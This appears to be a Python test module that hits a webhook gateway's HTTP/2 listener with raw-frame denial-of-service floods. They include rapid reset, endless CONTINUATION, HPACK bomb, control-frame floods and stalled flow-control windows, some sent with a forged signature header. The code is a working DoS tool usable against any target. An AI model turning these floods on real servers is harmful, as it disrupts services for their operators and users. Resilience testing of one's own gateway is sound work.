"""What clients do to an HTTP/2 listener, in raw frames (RFC 9113, RFC 7541 with literals only). Each attack writes without
end until the gateway ends the connection, and then comes again."""

import select
import struct
import time

from gateway import PATH
from http1 import connect

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value, indexed=False):
    def text(value):
        value = value if isinstance(value, bytes) else value.encode()
        assert len(value) < 127 + 128 * 128
        if len(value) < 127:
            return bytes([len(value)]) + value
        rest = len(value) - 127
        out = b"\x7f"
        while rest >= 128:
            out += bytes([rest % 128 + 128])
            rest //= 128
        return out + bytes([rest]) + value

    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def request(method="POST", path=PATH, more=()):
    block = literal(":method", method) + literal(":scheme", "http") + literal(":path", path)
    block += literal(":authority", "hooks.example.com")
    return block + b"".join(literal(name, value) for name, value in more)


FORGED = [("x-hub-signature-256", "sha256=" + "0" * 64)]
HELLO = PREFACE + frame(SETTINGS, 0, 0)


def rapid_reset(stream):
    block = request(more=FORGED)
    return frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def continuations(count):
    # One header block that never ends.
    if count == 1:
        return frame(HEADERS, 0, 1, request())
    return frame(CONTINUATION, 0, 1, literal(f"x-{count}", "z" * 1000))


def hpack_bomb(stream):
    # One large entry in the table, named thousands of times.
    if stream == 1:
        return frame(HEADERS, END_HEADERS | END_STREAM, 1, request() + literal("x-bomb", "b" * 3900, indexed=True))
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, request() + b"\xbe" * 8000)


def empty_data(count):
    if count == 1:
        return frame(HEADERS, END_HEADERS, 1, request(more=FORGED))
    return frame(DATA, 0, 1) * 50


def settings(_):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535)) * 50


def pings(_):
    return frame(PING, 0, 0, b"12345678") * 50


def window_updates(_):
    return frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 50


def priorities(count):
    return frame(PRIORITY, 0, 2 * count + 1, b"\0\0\0\0\x10") * 50


def unknown_frames(_):
    return frame(0xEE, 0, 0, b"?" * 64) * 50


def streams(count):
    return 2 * count - 1


#: name: (what is written at turn `count` of a connection, whether the client reads what it is answered)
FLOODS = {
    "rapid reset": (lambda count: rapid_reset(streams(count)), True),
    "CONTINUATION without end": (continuations, True),
    "HPACK bomb": (lambda count: hpack_bomb(streams(count)), True),
    "empty DATA": (empty_data, True),
    "SETTINGS": (settings, True),
    "SETTINGS, answers unread": (settings, False),
    "PING": (pings, True),
    "PING, answers unread": (pings, False),
    "WINDOW_UPDATE": (window_updates, True),
    "PRIORITY": (priorities, True),
    "unknown frames": (unknown_frames, True),
}


def flood(target, stop, name, rate=None):
    """One connection after the other, as fast as it goes, or so many bytes a second. Returns how many there were, how many
    the gateway ended, the most that one of them could send, and what was sent in all."""
    turn, reads = FLOODS[name]
    connections = ended = sent_most = sent_before = 0
    began = time.monotonic()
    while time.monotonic() < stop:
        sent = 0
        try:
            stream, connections = connect(target), connections + 1
            stream.sendall(HELLO)
            stream.setblocking(False)
            count, rest = 0, b""
            while time.monotonic() < stop:
                if rate:
                    time.sleep(max(0.0, (sent_before + sent) / rate - (time.monotonic() - began)))
                if not rest:
                    batch = []
                    for _ in range(16):
                        count += 1
                        batch.append(turn(count))
                    rest = b"".join(batch)
                readable, writable, _ = select.select([stream] if reads else [], [stream], [], 1)
                if readable:
                    while True:
                        try:
                            if not stream.recv(65536):
                                raise ConnectionError
                        except BlockingIOError:
                            break
                if writable:
                    written = stream.send(rest)
                    sent += written
                    rest = rest[written:]
        except OSError:
            ended += 1
        sent_most, sent_before = max(sent_most, sent), sent_before + sent
    return {"connections": connections, "ended": ended, "sent_most_kib": sent_most >> 10, "sent_kib": sent_before >> 10}


def stalled_window():
    """Asks on every stream and never opens its window, so that no answer can leave."""
    hello = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    ask = [frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, request("POST", "/nowhere")) for n in range(30)]
    return hello + b"".join(ask)


def stalled_bodies():
    """Begins thirty uploads and fills the windows that the gateway opened, and no more."""
    ask = [
        frame(HEADERS, END_HEADERS, 2 * n + 1, request(more=FORGED + [("content-length", "1000000")])) for n in range(30)
    ]
    data = [frame(DATA, 0, 2 * n + 1, b"d" * 2000) for n in range(30)]
    return HELLO + b"".join(ask) + b"".join(data)


def half_frame():
    return HELLO + b"\0\x10\0\0"
